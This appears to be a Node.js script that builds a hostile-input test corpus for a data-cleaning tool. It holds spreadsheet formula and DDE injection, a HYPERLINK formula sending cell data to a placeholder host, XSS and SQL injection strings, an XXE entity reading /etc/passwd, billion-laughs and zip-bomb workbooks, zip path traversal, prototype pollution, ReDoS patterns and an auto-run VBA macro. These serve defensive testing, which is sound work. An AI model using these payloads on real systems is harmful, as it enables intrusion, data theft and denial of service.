// Regenerates the hostile-input corpus for data files, metadata and recipes in
// tests/fixtures/hostile/ (each file < 100 KB; the bundle fixtures of that folder are made by
// tests/fixtures/hostile/make-fixtures.mjs and are not touched here):
//   node scripts/make-hostile-fixtures.mjs
// What each file tries and what must happen is listed in tests/fixtures/hostile/README.md and
// asserted by tests/integration/hostile-corpus.test.ts. Output is deterministic (seeded bytes,
// fixed zip timestamps), so re-running changes nothing unless this script changes. The two
// big inputs (a 100,000-column header and a 100 MB single line) are generated at test time.
import { writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import yauzl from 'yauzl';
import yazl from 'yazl';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const out = join(root, 'tests', 'fixtures', 'hostile');
const MTIME = new Date('2024-06-01T00:00:00Z');

/** A tiny seeded generator (mulberry32) so garbage is the same on every run. */
function random(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function bytes(n, seed, pick = (r) => Math.floor(r() * 256)) {
  const r = random(seed);
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i++) b[i] = pick(r);
  return b;
}

const files = new Map();
const put = (name, content) =>
  files.set(name, Buffer.isBuffer(content) ? content : Buffer.from(content));
const cat = (...parts) =>
  Buffer.concat(parts.map((p) => (Buffer.isBuffer(p) ? p : Buffer.from(p))));
const HEAD = 'kode,nama,jumlah\n';

// ---------------------------------------------------------------- binary and magic bytes
put('binary-garbage.csv', bytes(4096, 1));
put('nul-bytes.csv', cat(HEAD, '64.71,Balik', Buffer.from([0]), 'papan,3\n64.72,Samarinda,4\n'));
put(
  'png-renamed.csv',
  cat(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), bytes(600, 2)),
);
put(
  'pdf-renamed.csv',
  cat('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n', bytes(200, 3)),
);
put(
  'ole-renamed.csv',
  cat(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), bytes(1000, 4)),
);
put('zip-not-workbook.csv', cat(Buffer.from([0x50, 0x4b, 0x03, 0x04]), bytes(300, 5)));
put(
  'control-chars-many.csv',
  cat(
    HEAD,
    bytes(400, 6, (r) => [1, 2, 3, 4, 7, 8, 0x1b, 0x41][Math.floor(r() * 8)]),
  ),
);
put('elf-binary.csv', cat(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), bytes(500, 7)));

// ---------------------------------------------------------------- invalid UTF-8, every position
const bad = (b) => Buffer.from(b);
put('invalid-utf8-file-start.csv', cat(bad([0xc0, 0x80, 0xfd]), HEAD, '64.71,Balikpapan,3\n'));
// FF FE is the UTF-16 LE byte-order mark, so these bytes are read as UTF-16 LE
put('ff-fe-prefix.csv', cat(bad([0xff, 0xfe, 0xfd]), HEAD, '64.71,Balikpapan,3\n'));
put(
  'invalid-utf8-header.csv',
  cat('kode,na', bad([0xc3, 0x28]), 'ma,jumlah\n64.71,Balikpapan,3\n'),
);
put(
  'invalid-utf8-cell-start.csv',
  cat(HEAD, '64.71,', bad([0x80]), 'Balikpapan,3\n64.72,Samarinda,4\n'),
);
put('invalid-utf8-cell-middle.csv', cat(HEAD, '64.71,Balik', bad([0xe2, 0x28, 0xa1]), 'papan,3\n'));
put(
  'invalid-utf8-cell-end.csv',
  cat(HEAD, '64.71,Balikpapan', bad([0xf0, 0x28, 0x8c, 0x28]), ',3\n'),
);
put(
  'invalid-utf8-truncated-eof.csv',
  cat(HEAD, '64.71,Balikpapan,3\n64.72,Samarinda,', bad([0xe2, 0x82])),
);
put('invalid-utf8-overlong.csv', cat(HEAD, '64.71,Balik', bad([0xc0, 0xaf]), 'papan,3\n'));
put('invalid-utf8-surrogate.csv', cat(HEAD, '64.71,Balik', bad([0xed, 0xa0, 0x80]), 'papan,3\n'));
put('invalid-utf8-five-byte.csv', cat(HEAD, '64.71,', bad([0xf8, 0x88, 0x80, 0x80, 0x80]), ',3\n'));
put(
  'utf8-one-stray-byte.csv',
  cat(
    'kode,nama,keterangan\n',
    '64.71,Balikpapan,Jalan Jenderal Sudirman — ruas “utama” café naïve résumé — ‘jalur’ «ramai» ±5 km² · 2 µm\n',
    '64.72,Samarinda,Tepian Mahakam — “kota” tepian ‘sungai’ «lebar» ±10 km² · ½ hari — café crème brûlée ',
    bad([0x92]),
    ' façade Zürich\n',
  ),
);

// ---------------------------------------------------------------- UTF-16 without a BOM, BOM oddities
const sample16 = 'kode,nama,jumlah\r\n64.71,Balikpapan,3\r\n64.72,Samarinda,4\r\n';
put('utf16le-no-bom.csv', Buffer.from(sample16, 'utf16le'));
put('utf16be-no-bom.csv', Buffer.from(sample16, 'utf16le').swap16());
put(
  'utf16le-odd-length.csv',
  cat(bad([0xff, 0xfe]), Buffer.from(sample16, 'utf16le'), bad([0x41])),
);
put('bom-only.csv', bad([0xef, 0xbb, 0xbf]));
put('double-bom.csv', cat(bad([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), HEAD, '64.71,Balikpapan,3\n'));

// ---------------------------------------------------------------- structure
put('blank-lines-only.csv', '\n\n\r\n   \n\t\n');
put('header-only.csv', HEAD);
put('only-delimiters.csv', ',,,\n,,,\n;;;\n');
put('unterminated-quote.csv', cat(HEAD, '64.71,"Balikpapan,3\n64.72,Samarinda,4\n'));
put('unterminated-quote-header.csv', '"kode,nama,jumlah\n64.71,Balikpapan,3\n');
put('quote-inside-unquoted.csv', cat(HEAD, '64.71,Balik"papan,3\n64.72,Sama"rin"da,4\n'));
put('text-after-closing-quote.csv', cat(HEAD, '64.71,"Balik"papan,3\n64.72,"Sama""rinda"x,4\n'));
put('ragged-rows.csv', cat(HEAD, '64.71\n64.72,Samarinda,4,ekstra,lagi\n64.73,Bontang,5\n'));
put(
  'mixed-line-ends.csv',
  'kode,nama,jumlah\r\n64.71,Balikpapan,3\n64.72,Samarinda,4\r64.73,Bontang,5\r\n',
);
put('long-cell-90kb.csv', cat(HEAD, '64.71,', 'A'.repeat(90_000), ',3\n64.72,Samarinda,4\n'));
put(
  'wide-2000-columns.csv',
  Array.from({ length: 2000 }, (_, i) => `k${i}`).join(',') +
    '\n' +
    Array.from({ length: 2000 }, (_, i) => String(i)).join(',') +
    '\n',
);
put('duplicate-headers.csv', 'kode,kode,Kode,KODE ,\n64.71,a,b,c,d\n64.72,e,f,g,h\n');
put('footnote-every-row.csv', 'catatan,nilai\nSumber: BPS,\nSumber: Dinas,\n');
put('long-header-10k.csv', `${'x'.repeat(10_000)},nama\n1,Balikpapan\n2,Samarinda\n`);

// ---------------------------------------------------------------- formulas, markup, injection
put(
  'formula-cells.csv',
  [
    'kode,rumus,catatan',
    '1,=1+1,biasa',
    '2,"=HYPERLINK(""http://contoh.invalid/?d=""&A1,""klik"")",tautan',
    "3,+cmd|' /C calc'!A0,dde",
    '4,@SUM(1;2),at',
    '5,-2+3,minus',
    '6,"\t=1+2",tab',
    '7,"\r=1+2",cr',
    '',
  ].join('\n'),
);
put('formula-header.csv', '=1+1,"=HYPERLINK(""http://contoh.invalid"")",+A1\n1,2,3\n');
put(
  'html-cells.csv',
  [
    'kode,nama',
    '1,<script>alert(1)</script>',
    '2,<img src=x onerror=alert(1)>',
    '3,"<a href=""javascript:alert(1)"">x</a>"',
    "4,</td></tr><svg onload=alert('x')>",
    '5,{{constructor.constructor("alert(1)")()}}',
    '',
  ].join('\n'),
);
put(
  'html-header.csv',
  '<script>alert(1)</script>,<img src=x onerror=alert(2)>,"""><b>tebal</b>"\n1,2,3\n',
);
put(
  'sql-injection.csv',
  'kode,nama\n"64.71\'); DROP TABLE datasets;--",x\n64.72,"Robert\'); DELETE FROM audit_log;--"\n',
);
put('sql-injection-header.csv', '"nama""); DROP TABLE datasets;--",raw_1\n1,2\n3,4\n');
put(
  'bidi-zero-width.csv',
  'kode,nama\n64.71,Balik\u202epapan\n64.72,Sama\u200brinda\u2060\n64.73,\ufeffBontang\n',
);
put('emoji-astral.csv', 'kode,nama\n1,👩‍👩‍👧‍👦 keluarga\n2,𝕏𝔸 ℕ\n3,e\u0301\u0301\u0301 combining\n');
put(
  'control-chars-few.csv',
  `kode,nama\n64.71,Balik\u0007papan\n64.72,Sama\u001brinda\n${'64.73,Bontang\n'.repeat(40)}`,
);

// ---------------------------------------------------------------- numbers, dates, codes
put(
  'absurd-numbers.csv',
  [
    'kode,nilai',
    '1,1e309',
    '2,-0',
    '3,NaN',
    '4,Infinity',
    '5,123456789012345678901234567890',
    '6,-1e-400',
    '7,0x1F',
    '8,1_000',
    '9,9007199254740993',
    '10,"1.234.567.890.123.456.789,5"',
    '',
  ].join('\n'),
);
put(
  'huge-integer-ids.csv',
  'nik,nama\n123456789012345678901234567890,a\n999999999999999999999999999999,b\n000000000000000000000000000001,c\n',
);
put(
  'impossible-dates.csv',
  'kode,tanggal,tahun\n1,0000-00-00,0\n2,9999-99-99,99999\n3,2024-02-30,2024\n4,31/02/2024,-1\n5,1900-01-00,1e4\n',
);
put(
  'homoglyph-codes.csv',
  [
    'kode_kecamatan,nama_kecamatan',
    '64.71.O1,BALIKPAPAN TIMUR', // Latin O for zero
    '64.7l.02,BALIKPAPAN BARAT', // Latin l for one
    '６４.７１.０３,BALIKPAPAN UTARA', // fullwidth digits
    '64.71.04,BАLIKPAPAN TENGАH', // Cyrillic А
    '64.71.05,BALIKPAPAN SELATAN',
    '',
  ].join('\n'),
);

// ---------------------------------------------------------------- metadata documents
const nest = (depth, open, close, inner) => open.repeat(depth) + inner + close.repeat(depth);
put('meta-deep-nesting.json', `{"profil":"sdi-dataset","judul":${nest(20_000, '[', ']', '1')}}`);
put(
  'meta-deep-objects.json',
  `{"profil":"sdi-dataset","kontak":${nest(5_000, '{"a":', '}', '1')}}`,
);
put(
  'meta-proto-pollution.json',
  '{"profil":"sdi-dataset","judul":"Polusi","__proto__":{"polluted":"ya","isAdmin":true},"constructor":{"prototype":{"polluted":"ya"}},"kontak":{"__proto__":{"x":1}}}',
);
put('meta-not-object.json', '[{"judul":"daftar, bukan objek"}]');
put('meta-not-json.json', '{"profil": "sdi-dataset", "judul": ');
put(
  'meta-html.json',
  '{"profil":"sdi-dataset","judul":"<img src=x onerror=alert(1)>","deskripsi":"<script>alert(1)</script>"}',
);
put('meta-huge-string.json', `{"profil":"sdi-dataset","judul":"${'J'.repeat(90_000)}"}`);
put(
  'meta-invalid-utf8.json',
  cat('{"profil":"sdi-dataset","judul":"Balik', bad([0xff, 0xc3, 0x28]), 'papan"}'),
);
put('meta-duplicate-keys.json', '{"profil":"sdi-dataset","judul":"pertama","judul":"kedua"}');
put('meta-binary.json', bytes(2000, 8));
put(
  'meta-wrong-types.json',
  '{"profil":"sdi-dataset","judul":12,"kata_kunci":"bukan daftar","kontak":[1,2],"kolom":{"a":1}}',
);

// ---------------------------------------------------------------- recipes (clean FILE --recipe)
const recipe = (...steps) => JSON.stringify({ version: 1, steps });
put('recipe-target.csv', `kode,nama\n1,${'a'.repeat(40)}!\n2,${'a'.repeat(3000)}!\n3,\\s\\s\\s\n`);
put(
  'recipe-redos-nested.json',
  recipe({ op: 'replace', columns: ['nama'], find: '(a+)+$', replace: 'x', regex: true }),
);
put(
  'recipe-redos-alternation.json',
  recipe({ op: 'replace', find: '(a|aa)+$', replace: 'x', regex: true }),
);
put(
  'recipe-redos-polynomial.json',
  recipe({ op: 'replace', find: '\\s*\\s*$', replace: '', regex: true }),
);
put(
  'recipe-redos-drop-rows.json',
  recipe({ op: 'drop-rows', where: [{ column: 'nama', test: 'matches', value: '(\\w+\\s?)*$' }] }),
);
put(
  'recipe-huge-regex.json',
  recipe({ op: 'replace', find: 'a'.repeat(5000), replace: 'x', regex: true }),
);
put(
  'recipe-backreference.json',
  recipe({ op: 'replace', find: '(a*)\\1$', replace: 'x', regex: true }),
);
put(
  'recipe-huge-bound.json',
  recipe({ op: 'replace', find: 'a{1,100000}', replace: 'x', regex: true }),
);
put(
  'recipe-proto-pollution.json',
  '{"version":1,"steps":[{"op":"trim","__proto__":{"polluted":"ya"}}]}',
);
put('recipe-constructor-op.json', recipe({ op: 'constructor' }, { op: '__proto__' }));
put(
  'recipe-deep-nesting.json',
  `{"version":1,"steps":[{"op":"map-values","column":"nama","mapping":${nest(10_000, '{"a":', '}', '"b"')}}]}`,
);
put(
  'recipe-expression-injection.json',
  recipe({ op: 'add-column', name: 'x', expression: 'process.exit(1)' }),
);
put(
  'recipe-many-steps.json',
  JSON.stringify({ version: 1, steps: Array.from({ length: 3000 }, () => ({ op: 'trim' })) }),
);
put('recipe-not-json.json', 'version: 1\nsteps: [trim]\n');

// ---------------------------------------------------------------- XLSX
async function workbook(rows, edit) {
  const wb = new ExcelJS.Workbook();
  wb.creator = 'hostile';
  wb.created = MTIME;
  wb.modified = MTIME;
  const ws = wb.addWorksheet('Data');
  for (const r of rows) ws.addRow(r);
  edit?.(ws);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function unzip(buf) {
  return new Promise((res, rej) => {
    yauzl.fromBuffer(buf, { lazyEntries: true }, (err, zip) => {
      if (err) return rej(err);
      const entries = new Map();
      zip.on('entry', (e) => {
        if (e.fileName.endsWith('/')) {
          zip.readEntry();
          return;
        }
        zip.openReadStream(e, (er, s) => {
          if (er) return rej(er);
          const chunks = [];
          s.on('data', (c) => chunks.push(c));
          s.on('end', () => {
            entries.set(e.fileName, Buffer.concat(chunks));
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => res(entries));
      zip.readEntry();
    });
  });
}

function zip(entries, compress = true) {
  return new Promise((res) => {
    const z = new yazl.ZipFile();
    for (const [name, data] of entries) z.addBuffer(data, name, { mtime: MTIME, compress });
    z.end();
    const chunks = [];
    z.outputStream.on('data', (c) => chunks.push(c));
    z.outputStream.on('end', () => res(Buffer.concat(chunks)));
  });
}

const ROWS = [
  ['kode', 'nama', 'jumlah'],
  ['64.71', 'Balikpapan', 3],
  ['64.72', 'Samarinda', 4],
];

async function makeXlsx() {
  const plain = await unzip(await workbook(ROWS));

  // a sheet of 24 MB (one cell of the same letter) deflated to ~25 KB: ratio ~1000, above 200
  {
    const e = new Map(plain);
    const body = `<row r="1"><c r="A1" t="inlineStr"><is><t>${'a'.repeat(24 * 1024 * 1024)}</t></is></c></row>`;
    e.set(
      'xl/worksheets/sheet1.xml',
      Buffer.from(
        `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData></worksheet>`,
      ),
    );
    put('xlsx-zip-bomb-ratio.xlsx', await zip(e));
  }

  // the central directory claims 700 MB for a tiny sheet (sizes lie)
  {
    const z = await zip(plain);
    const name = Buffer.from('xl/worksheets/sheet1.xml');
    let i = z.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    while (i >= 0) {
      const nameLen = z.readUInt16LE(i + 28);
      if (z.subarray(i + 46, i + 46 + nameLen).equals(name))
        z.writeUInt32LE(700 * 1024 * 1024, i + 24);
      i = z.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), i + 4);
    }
    put('xlsx-zip-bomb-claimed-size.xlsx', z);
  }

  // a formula that points into another workbook (external link) with a cached value
  {
    const e = await unzip(
      await workbook(ROWS, (ws) => {
        ws.getCell('D1').value = 'luar';
        ws.getCell('D2').value = { formula: "'[1]Sheet1'!A1", result: 'nilai tersimpan' };
      }),
    );
    e.set(
      'xl/externalLinks/externalLink1.xml',
      Buffer.from(
        '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
      ),
    );
    e.set(
      'xl/externalLinks/_rels/externalLink1.xml.rels',
      Buffer.from(
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="http://contoh.invalid/rahasia.xlsx" TargetMode="External"/></Relationships>',
      ),
    );
    put('xlsx-external-link.xlsx', await zip(e));
  }

  // a macro project (vbaProject.bin) with the macro-enabled content type, named .xlsx
  {
    const e = new Map(plain);
    e.set(
      'xl/vbaProject.bin',
      cat(
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        'Attribute VB_Name = "Module1"\nSub Auto_Open()\nShell "calc.exe"\nEnd Sub\n',
      ),
    );
    const ct = e.get('[Content_Types].xml').toString();
    e.set(
      '[Content_Types].xml',
      Buffer.from(
        ct
          .replace(
            'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
            'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
          )
          .replace(
            '</Types>',
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
          ),
      ),
    );
    put('xlsx-macro.xlsx', await zip(e));
  }

  // XML external entity in the shared strings / sheet: must never read /etc/passwd
  {
    const e = new Map(plain);
    const sheet = e.get('xl/worksheets/sheet1.xml').toString();
    e.set(
      'xl/worksheets/sheet1.xml',
      Buffer.from(
        sheet
          .replace(
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
          )
          .replace(
            '<sheetData>',
            '<sheetData><row r="10"><c r="A10" t="inlineStr"><is><t>&xxe;</t></is></c><c r="B10" t="inlineStr"><is><t>xxe</t></is></c></row>',
          ),
      ),
    );
    put('xlsx-xxe.xlsx', await zip(e));
  }

  // billion laughs: nested entity expansion
  {
    const e = new Map(plain);
    let dtd = '<!ENTITY l0 "ha">';
    for (let i = 1; i <= 9; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
    const sheet = e.get('xl/worksheets/sheet1.xml').toString();
    e.set(
      'xl/worksheets/sheet1.xml',
      Buffer.from(
        sheet
          .replace(
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
            `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [${dtd}]>`,
          )
          .replace(
            '<sheetData>',
            '<sheetData><row r="10"><c r="A10" t="inlineStr"><is><t>&l9;</t></is></c><c r="B10" t="inlineStr"><is><t>tawa</t></is></c></row>',
          ),
      ),
    );
    put('xlsx-billion-laughs.xlsx', await zip(e));
  }

  // one cell at the far corner of the sheet (XFD1048576)
  put(
    'xlsx-far-corner.xlsx',
    await workbook(ROWS, (ws) => {
      ws.getCell('XFD1048576').value = 'pojok';
    }),
  );

  // formulas with cached values, and a formula without one
  put(
    'xlsx-formulas.xlsx',
    await workbook([
      ['kode', 'a', 'b', 'jumlah'],
      ['64.71', 1, 2, { formula: 'B2+C2', result: 3 }],
      ['64.72', 3, 4, { formula: 'B3+C3' }],
      ['64.73', 5, 6, { formula: 'HYPERLINK("http://contoh.invalid","klik")', result: 'klik' }],
    ]),
  );

  // a zip with entries but no workbook in it
  put(
    'xlsx-no-workbook.xlsx',
    await zip(
      new Map([
        ['readme.txt', Buffer.from('bukan buku kerja')],
        ['data/a.csv', Buffer.from('a,b\n1,2\n')],
      ]),
    ),
  );

  // an entry whose name climbs out of the folder (written under a placeholder, then patched)
  {
    const e = new Map(plain);
    e.set('xx/xx/evil.txt', Buffer.from('keluar folder'));
    const z = await zip(e, false);
    let i = z.indexOf(Buffer.from('xx/xx/evil.txt'));
    while (i >= 0) {
      z.write('../../evil.txt', i, 'latin1');
      i = z.indexOf(Buffer.from('xx/xx/evil.txt'), i + 1);
    }
    put('xlsx-path-traversal.xlsx', z);
  }

  // a valid workbook cut in half
  {
    const full = await workbook(ROWS);
    put('xlsx-truncated.xlsx', full.subarray(0, Math.floor(full.length / 2)));
  }

  // a sheet with 200 sheets' worth of names that are markup and formulas
  put(
    'xlsx-hostile-strings.xlsx',
    await workbook([
      ['<script>alert(1)</script>', '=1+1', 'nama'],
      ['<img src=x onerror=alert(1)>', '@SUM(1,2)', '+cmd'],
      ['x', '-2+3', '\u202eevil'],
    ]),
  );
}

await makeXlsx();

let total = 0;
for (const [name, content] of files) {
  if (content.length >= 100 * 1024)
    throw new Error(`${name} is ${content.length} bytes (limit 100 KB)`);
  writeFileSync(join(out, name), content);
  total += content.length;
}
console.log(`hostile fixtures: ${files.size} files, ${total} bytes in ${out}`);
